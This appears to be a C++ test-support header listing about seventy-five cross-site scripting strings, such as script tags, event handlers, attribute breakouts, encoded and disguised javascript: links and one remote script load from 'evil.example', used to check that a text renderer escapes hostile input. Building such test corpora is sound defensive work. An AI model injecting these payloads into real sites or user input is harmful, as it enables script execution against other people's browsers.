// Well-known script-injection strings, one input line each: tags, event handlers,
// script addresses wherever the link rules look, entity tricks, quotes breaking
// out of attributes, table fields and selection box lines.
#pragma once

#include <string>
#include <vector>

namespace scrivane::testing_support {

// One input line each.
inline const std::vector<std::string> kHostileLines = {
    // Tags and handlers.
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<a href=\"javascript:alert(1)\">click</a>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<object data=\"javascript:alert(1)\"></object>",
    "<base href=\"javascript:alert(1)//\">",
    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
    "<style>@import 'javascript:alert(1)';</style>",
    "<form action=javascript:alert(1)><button>go</button></form>",
    "--><script>alert(1)</script><!--",
    "</TITLE><script>alert(1)</script>",
    "</TD></TR></TABLE><script>alert(1)</script>",
    "</OPTION></SELECT></FORM><script>alert(1)</script>",
    "</PRE><script>alert(1)</script>",
    // Quotes breaking out of attributes.
    "\" onmouseover=\"alert(1)",
    "' onmouseover='alert(1)",
    "\"><script>alert(1)</script>",
    "'><script>alert(1)</script>",
    "\"onclick=alert(1)//",
    "`onclick=alert(1)`",
    // Entity tricks: typed entities must show as typed.
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&#x3C;img src=x onerror=alert(1)&#x3E;",
    "&quot; onmouseover=&quot;alert(1)",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    // Script addresses wherever the link rules look: plain, brackets, quotes,
    // wrappers, punctuation, entity and control-character disguises.
    "javascript://example.org/%0Aalert(1)",
    "JaVaScRiPt://example.org/%0Aalert(1)",
    "javascript:alert(1)",
    "(javascript://x/%0Aalert(1)).",
    "[javascript://x/%0Aalert(1)]",
    "{javascript://x/%0Aalert(1)}",
    "'javascript://x/%0Aalert(1)'",
    "\"javascript://x/%0Aalert(1)\"",
    "(\"javascript://x/%0Aalert(1)\"),",
    "&quot;javascript://x/%0Aalert(1)&quot;",
    "vbscript://x/%0Amsgbox(1)",
    "data://text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "&#106;avascript://x/%0Aalert(1)",
    "javascript&#58;//x/%0Aalert(1)",
    "jav&#x09;ascript://x/%0Aalert(1)",
    "\x01javascript://x/%0Aalert(1)",
    "java\x0Bscript://x/%0Aalert(1)",
    "java\tscript://x/%0Aalert(1)",
    "x\tjavascript://x/%0Aalert(1)\twww.ok.example",
    "\xEF\xBD\x8A\xEF\xBD\x81\xEF\xBD\x96\xEF\xBD\x81script://x/%0Aalert(1)",  // full-width letters
    "http://ok.example/\"onmouseover=\"alert(1)",
    "http://ok.example/'onmouseover='alert(1)",
    "http://ok.example/><script>alert(1)</script>",
    "http://ok.example/?q=<svg/onload=alert(1)>",
    "http://ok.example/a&gt;",
    "www.javascript:alert(1)",
    "www.ok.example/\"onmouseover=\"alert(1)\"",
    "ftp.javascript:alert(1)",
    "ftp.ok.example/\"><script>alert(1)</script>",
    "javascript:alert(1)@example.org",
    "\"javascript:alert(1)\"@example.org",
    "<javascript://x/%0Aalert(1)@example.org>",
    "(someone@example.org\"onclick=\"alert(1))",
    "&lt;someone@example.org&gt;\"onmouseover=\"alert(1)",
    "someone@example.org?subject=<script>alert(1)</script>",
    // Table fields.
    "a,javascript://x/%0Aalert(1),\"b,\"\"javascript://x/%0Aalert(1)\"\"\"",
    "a\t<script>alert(1)</script>\t\"c\"",
    "a;\"<img src=x onerror=alert(1)>\";www.ok.example",
    // Selection box lines.
    "Pick me javascript://x/%0Aalert(1)",
    "Home http://ok.example/ \"onclick=\"alert(1)",
    "Mail someone@example.org <script>alert(1)</script>",
};

}  // namespace scrivane::testing_support
